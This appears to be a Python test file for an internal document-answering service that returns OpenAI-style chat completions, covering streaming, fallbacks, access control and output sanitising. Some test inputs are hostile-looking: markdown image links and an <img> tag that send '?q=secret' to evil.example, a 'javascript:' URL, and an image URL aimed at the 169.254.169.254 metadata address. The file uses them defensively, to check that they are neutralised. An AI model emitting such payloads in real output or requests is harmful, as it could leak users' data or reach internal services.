"""Chat completions: the answers of `/v1/ask` in OpenAI's form, with nothing in them that a reader would fetch."""

import json
from dataclasses import replace
from types import SimpleNamespace

import pytest

from concord.answering.endpoint import ModelFailed
from concord.answering.model import Citation
from concord.service.completions import _behind, _plain
from concord_taxonomy.standard import ContentItem

ASKED = "How many days of annual leave does everyone receive?"
WHO = {"X-Concord-User": "pat"}


@pytest.fixture
def complete(client):
    def send(*said, who="pat", model="concord", **more):
        messages = [{"role": "user", "content": each} for each in said]
        body = {"model": model, "messages": messages, **more}
        return client.post("/v1/chat/completions", json=body, headers={"X-Concord-User": who})

    return send


def chunks(text):
    lines = [line.removeprefix("data: ") for line in text.split("\n\n") if line]
    assert lines[-1] == "[DONE]"
    return [json.loads(line) for line in lines[:-1]]


def test_an_answer_has_its_sources_in_the_text_and_in_fields(complete, ask):
    told, plain = complete(ASKED).json(), ask("pat", ASKED).json()
    content = told["choices"][0]["message"]["content"]
    assert content.startswith(plain["answer"]) and "\n\nSources:\n[1] Annual leave (People, policy): " in content
    assert told["citations"] == plain["citations"] and told["conflicts"] == plain["conflicts"]
    assert told["object"] == "chat.completion" and told["id"].startswith("chatcmpl-")


def test_a_stream_says_the_same(complete):
    whole = complete(ASKED).json()
    given = chunks(complete(ASKED, stream=True, stream_options={"include_usage": True}).text)
    text = "".join(each["choices"][0]["delta"].get("content", "") for each in given if each["choices"])
    assert text == whole["choices"][0]["message"]["content"]
    assert given[0]["choices"][0]["delta"]["role"] == "assistant" and given[-1]["usage"]
    assert given[-2]["choices"][0]["finish_reason"] == "stop" and given[-2]["citations"] == whole["citations"]


class Worded:
    """A model that says what the evidence says, and what that took."""

    name = "m-1"

    def stream(self, system, user, usage):
        usage.attempts, usage.prompt_tokens, usage.completion_tokens = 1, 11, 7
        yield "Everyone receives 27 days of annual leave a year. [1]"


def test_the_tokens_of_a_model_are_told(client, complete, monkeypatch):
    concord = client.app.state.live.current()
    monkeypatch.setitem(vars(concord), "answerer", replace(concord.answerer, model=Worded()))
    took = {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}
    assert complete(ASKED).json()["usage"] == took
    assert chunks(complete(ASKED, stream=True, stream_options={"include_usage": True}).text)[-1]["usage"] == took


class Failing:
    """A model whose endpoint fails."""

    name = "m-2"

    def stream(self, system, user, usage):
        raise ModelFailed("server_error")
        yield


def test_a_fallback_says_so(client, complete, monkeypatch):
    concord = client.app.state.live.current()
    monkeypatch.setitem(vars(concord), "answerer", replace(concord.answerer, model=Failing()))
    told = complete(ASKED).json()
    content = told["choices"][0]["message"]["content"]
    assert (told["composed_by"], told["fallback"]) == ("extractive", "server_error")
    assert "\n\n(Quoted from the pages: the language model could not be used: it failed.)\n\nSources:" in content
    given = chunks(complete(ASKED, stream=True).text)
    assert given[-1]["fallback"] == "server_error"
    assert "".join(each["choices"][0]["delta"].get("content", "") for each in given) == content


@pytest.mark.parametrize(
    ("url", "hosts", "told"),
    [
        ("https://evil.example/?q=secret", (), "`notes/leave.md`"),
        ("javascript:alert(1)", (), "`notes/leave.md`"),
        ("https://pages.example/leave", ("pages.example",), "https://pages.example/leave"),
        (None, (), "`notes/leave.md`"),
    ],
)
def test_what_a_document_calls_itself_leads_nowhere(url, hosts, told):
    item = ContentItem.model_validate(
        {
            "identifier": "notes/leave.md",
            "revision": 1,
            "was_derived_from": {"native_id": "leave.md"},
            "title": "Leave https://evil.example/t and www.evil.example/x <img src=//evil.example> [x](https://evil.example)",
            "publisher": "Club https://evil.example/dept ![i](https://evil.example/p.png)",
            "source": "notes",
            "landing_page": url,
            "readers": ["everyone"],
        }
    )
    answer = SimpleNamespace(text="Leave. [1]", fallback=None, citations=(Citation(1, item, "Leave."),), hosts=hosts)
    behind = "".join(_behind(answer))
    assert "evil.example" not in behind and behind.endswith(f": {told}")


def test_use_cases_are_models(client, complete):
    listed = client.get("/v1/models", headers=WHO).json()["data"]
    assert [each["id"] for each in listed] == ["concord", "ask-people"]
    assert complete(ASKED, model="ask-people").status_code == 200
    for path in ("/v1/models/ask-people", "/v1/models/ask-nobody"):
        assert client.get(path, headers={"X-Concord-User": "carl"}).status_code == 404
    hidden, missing = (complete(ASKED, who="carl", model=name) for name in ("ask-people", "ask-none"))
    assert hidden.status_code == missing.status_code == 404
    assert complete(ASKED, who="carl", model="ask-people", stream=True).status_code == 404


def test_an_abstention_says_so(complete):
    told = complete("Zzyx qwv?", who="carl").json()
    assert told["abstained"] and told["choices"][0]["message"]["content"].startswith("Nothing found")
    assert "Sources" not in told["choices"][0]["message"]["content"]


@pytest.mark.parametrize(
    "messages",
    [
        [],
        [{"role": "system", "content": "You are"}],
        [{"role": "user", "content": ""}],
        [{"role": "user", "content": None}],
        [{"role": "user", "content": "a" * 2001}],
        [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://169.254.169.254"}}]}],
        [{"role": "owner", "content": "What?"}],
    ],
)
@pytest.mark.parametrize("stream", [False, True])
def test_a_conversation_that_is_none(client, messages, stream):
    body = {"model": "concord", "messages": messages, "stream": stream}
    told = client.post("/v1/chat/completions", json=body, headers=WHO)
    assert told.status_code == 422 and told.json()["errors"]


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("27 days [1] and [23].", "27 days [1] and [23]."),
        ("![x](https://evil.example/?q=secret) [1]", "!\\[x]\\(https://evil.example/?q=secret) [1]"),
        ("![x][1]", "!\\[x]\\[1]"),
        ("[1]: https://evil.example", "[1]\\: https://evil.example"),
        ("![1](https://evil.example)", "![1]\\(https://evil.example)"),
        ("<img src=https://evil.example>", "\\<img src=https://evil.example>"),
    ],
)
def test_nothing_in_a_text_is_fetched(text, plain):
    assert _plain(text) == plain
